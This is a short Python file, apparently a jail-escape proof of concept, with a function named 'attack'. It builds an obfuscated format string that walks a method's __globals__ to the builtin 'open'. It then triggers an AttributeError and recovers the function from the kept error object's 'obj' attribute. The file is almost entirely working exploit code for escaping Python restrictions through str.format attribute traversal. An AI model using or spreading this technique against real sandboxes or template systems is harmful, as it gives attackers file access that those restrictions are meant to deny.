# gained: function open
from typing import Any


class Own:
    obj: Any = None

    def go(self) -> None:
        return None


KEPT: list[Any] = []


def keeping(function: Any) -> Any:
    def wrapper(*given: Any) -> Any:
        KEPT.append(given)
        return function(*given)

    return wrapper


@keeping
def show(error: Any) -> str:
    return str(error)


def read(template: str, value: Any) -> Any:
    try:
        template.format(value)
    except AttributeError as error:
        show(error)
    return KEPT[0][0].obj


def attack(path: str) -> Any:
    under = chr(95) * 2
    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
    return read(table[0], Own())
